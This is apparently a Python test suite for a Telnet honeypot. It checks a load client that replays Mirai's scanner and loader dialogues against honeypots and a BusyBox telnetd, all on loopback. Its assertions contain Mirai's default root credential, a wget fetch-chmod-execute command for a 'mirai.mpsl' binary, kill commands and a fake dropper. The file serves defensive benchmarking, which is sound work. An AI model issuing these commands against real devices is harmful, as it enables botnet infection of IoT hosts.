"""bench/telnet's load client (bench/telnet/loadgen.c), which plays Mirai's scanner and loader
dialogues with Mirai's own matching rules, run for a few sessions against every kind of server
it must cope with, all on loopback: mitsu; a Python honeypot with the habits of another
well-known Telnet honeypot (options answered at any point, WILL/DO ECHO at the password prompt
and WONT ECHO after it, output split into small writes; telnet_fakes.Honeypot); and a real
BusyBox telnetd whose login program prints a canned BusyBox prompt (telnet_fake_login.py).
Each test checks how many sessions completed, how many failed and at which step. Servers that
stall must make the client count the session as failed at that step (after its step timeout),
never hang it: every run has a hard time limit here."""
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
import telnet_fakes  # noqa: E402

LOADGEN_C = os.path.join(harness.ROOT, 'bench', 'telnet', 'loadgen.c')
LOGIN = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'telnet_fake_login.py')
RUN_LIMIT = 120   # seconds: a load client that hangs fails the test instead of blocking it
FAST = ['telnet.fail_delay_ms=0', 'box.auto=false']


def dropper():
    """The 1,536 bytes the loadgen echoes: an ELF identification and xorshift32 bytes."""
    x, out = 2463534242, bytearray()
    for _ in range(1536):
        x ^= (x << 13) & 0xffffffff
        x ^= x >> 17
        x ^= (x << 5) & 0xffffffff
        out.append(x & 0xff)
    out[:7] = b'\x7fELF\x01\x01\x01'
    return bytes(out)


class BenchTelnetTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix='mitsu-bench-telnet-it-')
        cls.loadgen_bin = os.path.join(cls.tmp, 'loadgen')
        subprocess.run(['cc', '-std=c17', '-O2', '-Wall', '-Wextra', '-Wformat=2', '-Wshadow',
                        '-Wstrict-prototypes', '-Wvla', '-Wwrite-strings', '-Werror',
                        '-Wno-unused-parameter', '-Wno-missing-field-initializers',
                        '-o', cls.loadgen_bin, LOADGEN_C], check=True)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def loadgen(self, port, mode, sessions, *extra):
        """Runs the client for `sessions` sessions; returns its key=value report as a dict."""
        # -G: the sessions under way once all have started end by their own step timeouts (-T),
        # not by the client's drain time (its default, 30 s, once cut a loader session that a
        # starved machine had slowed: a guard against a hang is RUN_LIMIT).
        args = [self.loadgen_bin, '-p', str(port), '-m', mode, '-c', str(min(sessions, 4)),
                '-n', str(sessions), '-G', str((RUN_LIMIT - 20) * 1000)] + [str(a) for a in extra]
        p = subprocess.run(args, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True, timeout=RUN_LIMIT)
        self.assertEqual(p.returncode, 0, p.stderr)
        report = dict(line.split('=', 1) for line in p.stdout.splitlines() if '=' in line)
        self.assertEqual(int(report['started']), sessions, p.stdout)
        return report

    def failures(self, report):
        """{'step.reason': count} of the failed sessions."""
        return {k[len('failed.'):]: int(v) for k, v in report.items() if k.startswith('failed.')}

    def assert_all_completed(self, report, n):
        self.assertEqual((int(report['completed']), int(report['failed'])), (n, 0), report)

    # ---- mitsu ----

    def test_scanner_dialogue_against_mitsu(self):
        with harness.Sensor(sets=FAST) as s:
            report = self.loadgen(s.port, 'scanner', 6)
            self.assert_all_completed(report, 6)
            # The sensor saw each session's dialogue: the query came after the four commands.
            s.events(wait_for=('mitsu.command.input',
                               lambda e: len([x for x in s.events('mitsu.command.input')
                                              if x['input'] == '/bin/busybox MIRAI']) == 6))
            logins = s.events('mitsu.login.success')
            self.assertEqual(sorted((e['username'], e['password']) for e in logins),
                             [('root', 'xc3511')] * 6)

    def test_loader_dialogue_against_mitsu(self):
        """The whole loader dialogue runs up to /bin/echo's ELF header. Whether a session then
        completes depends on how mitsu's output of /bin/echo reaches the client: Mirai's loader
        stalls when the read that brings the header fills its 8 KiB buffer, or when nothing
        arrives after it (bench/telnet/README.md); so each session must either complete or fail
        at detect_arch, and none may fail before."""
        with harness.Sensor(sets=FAST) as s:
            report = self.loadgen(s.port, 'loader', 3, '-D', '0', '-T', '5000')
            n_done, n_failed = int(report['completed']), int(report['failed'])
            self.assertEqual(n_done + n_failed, 3, report)
            self.assertEqual(set(self.failures(report)) - {'detect_arch.buffer_full',
                                                          'detect_arch.timeout'}, set(), report)
            if n_done:
                # one upload per completed session, and one more for each ARM retry (Mirai
                # uploads the other ARM build when the payload did not say "listening tun0")
                self.assertEqual(int(report['mirai_upload.echo']) + int(report['mirai_upload.wget'])
                                 + int(report['mirai_upload.tftp']),
                                 n_done + int(report['arm_retries']), report)
            s.events(wait_for=('mitsu.command.input',
                               lambda e: len([x for x in s.events('mitsu.command.input')
                                              if x['input'] == '/bin/busybox cat /bin/echo']) == 3))

    def test_idle_connections_are_held(self):
        with harness.Sensor(sets=FAST) as s:
            for mode in ('idle', 'idle-shell'):
                p = subprocess.run([self.loadgen_bin, '-p', str(s.port), '-m', mode, '-i', '12',
                                    '-t', '60'], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                   text=True, timeout=RUN_LIMIT)
                report = dict(l.split('=', 1) for l in p.stdout.splitlines() if '=' in l)
                self.assertEqual((report['idle_connections'], report['failed']), ('12', '0'), report)

    def test_refused_connections_fail_at_connect(self):
        report = self.loadgen(harness.free_port(), 'scanner', 3, '-T', '2000')
        self.assertEqual(self.failures(report), {'connect.refused': 3}, report)

    def test_only_loopback_targets(self):
        for flag, value in (('-h', '192.0.2.1'), ('-w', '192.0.2.1:80')):
            p = subprocess.run([self.loadgen_bin, '-p', '23', flag, value], stdin=subprocess.DEVNULL,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=10)
            self.assertEqual(p.returncode, 2, p.stderr)
            self.assertIn('127.0.0.0/8', p.stderr)
            self.assertEqual(p.stdout, '')

    # ---- the Python honeypot with the other honeypot's habits ----

    def test_scanner_and_loader_against_split_output_honeypot(self):
        hp = telnet_fakes.Honeypot(opening='naws', split=True).start()
        try:
            self.assert_all_completed(self.loadgen(hp.port, 'scanner', 5, '-T', '10000'), 5)
            # -D: the loader's "\r\n" after the user name and the password comes later.
            report = self.loadgen(hp.port, 'loader', 3, '-T', '10000', '-D', '100')
            self.assert_all_completed(report, 3)
            self.assertEqual((report['mirai_upload.echo'], report['arch.mpsl'],
                              report['kills_sent']), ('3', '3', '6'), report)
            self.assertEqual(hp.logins, [(b'root', b'xc3511')] * 8)
            loader_shells = [sh for sh in hp.shells if sh.uploads]
            self.assertEqual(len(loader_shells), 3)
            for sh in loader_shells:
                # Echoed in 12 lines of 128 bytes, the dropper arrived whole (then ./dvrHelper,
                # emptied by the loader); the loader killed what Mirai kills in that listing.
                self.assertEqual(sh.uploads, [dropper(), b''])
                for pid in telnet_fakes.PS_KILLED:
                    self.assertIn('/bin/busybox kill -9 %d' % pid, sh.commands)
        finally:
            hp.stop()

    def test_loader_follows_mirais_upload_choice_when_asked(self):
        """-U auto: with wget on the device, Mirai's loader fetches its binary with wget (from a
        loopback address only; the fake fetches nothing) instead of echoing a dropper."""
        hp = telnet_fakes.Honeypot(split=False, wget=True).start()
        try:
            report = self.loadgen(hp.port, 'loader', 2, '-D', '0', '-U', 'auto', '-w', '127.0.0.9:8080')
        finally:
            hp.stop()
        self.assert_all_completed(report, 2)
        self.assertEqual((report['mirai_upload.wget'], report['mirai_upload.echo']), ('2', '0'), report)
        for sh in hp.shells:
            self.assertIn('/bin/busybox wget http://127.0.0.9:8080/bins/mirai.mpsl -O - > dvrHelper; '
                          '/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI', sh.commands)
            self.assertIn('./dvrHelper telnet.mpsl; /bin/busybox IHCCE', sh.commands)

    def test_stalled_servers_fail_at_their_step(self):
        cases = [  # (Honeypot arguments, mode, how sessions must fail)
            (dict(stall='iacs'), 'scanner', 'iacs.timeout'),
            (dict(opening='none'), 'scanner', 'iacs.timeout'),   # no option burst: no login
            (dict(stall='password_prompt'), 'scanner', 'password_prompt.timeout'),
            (dict(stall='shell_prompt'), 'loader', 'shell_prompt.timeout'),
            (dict(stall_on='MIRAI'), 'scanner', 'token.timeout'),
            (dict(stall_on='cat /bin/echo'), 'loader', 'detect_arch.timeout'),
            # /bin/echo written in one 100 KB burst: the read that brings the ELF header fills
            # the loader's 8 KiB buffer, where Mirai's loader stalls for good.
            (dict(split=False, echo_size=100000), 'loader', 'detect_arch.buffer_full'),
        ]
        for kwargs, mode, failure in cases:
            with self.subTest(server=kwargs):
                hp = telnet_fakes.Honeypot(**kwargs).start()
                try:
                    # -T: each step before the stalled one must end within it; 400 ms was
                    # once too short for a step of a starved machine (the session then failed
                    # a step early). A longer one only makes the stall's wait longer.
                    report = self.loadgen(hp.port, mode, 2, '-T', '3000', '-D', '0')
                finally:
                    hp.stop()
                self.assertEqual(report['completed'], '0', report)
                self.assertEqual(self.failures(report), {failure: 2}, report)

    # ---- a real BusyBox telnetd ----

    def test_against_busybox_telnetd(self):
        listing = subprocess.run(['busybox', '--list'], stdout=subprocess.PIPE, text=True).stdout
        self.assertIn('telnetd', listing.split(), 'busybox has no telnetd: install busybox-static '
                      '(scripts/deps)')
        port = harness.free_port()
        log = os.path.join(self.tmp, 'login.log')
        env = dict(os.environ, FAKE_LOGIN_LOG=log)
        # -f: no issue file; -l: the canned login, which never starts a shell.
        d = subprocess.Popen(['busybox', 'telnetd', '-F', '-p', str(port), '-b', '127.0.0.1',
                              '-f', '/nonexistent', '-l', LOGIN], env=env)
        try:
            self.wait_listening(port, d)
            self.assert_all_completed(self.loadgen(port, 'scanner', 3, '-T', '10000'), 3)
            report = self.loadgen(port, 'loader', 2, '-T', '10000', '-D', '0')
            self.assert_all_completed(report, 2)
            self.assertEqual((report['arch.mpsl'], report['kills_sent']), ('2', '4'), report)
        finally:
            d.terminate()
            d.wait(timeout=10)
        with open(log) as f:
            lines = f.read().splitlines()
        self.assertEqual(lines.count('/bin/busybox MIRAI'), 3)
        self.assertEqual(lines.count('./upnp; ./dvrHelper telnet.mpsl; /bin/busybox IHCCE'), 2)

    def wait_listening(self, port, proc):
        deadline = time.monotonic() + 30
        while True:
            self.assertIsNone(proc.poll(), 'busybox telnetd exited')
            try:
                socket.create_connection(('127.0.0.1', port), timeout=1).close()
                return
            except OSError:
                self.assertLess(time.monotonic(), deadline, 'telnetd did not listen')
                time.sleep(0.05)


if __name__ == '__main__':
    harness.main()
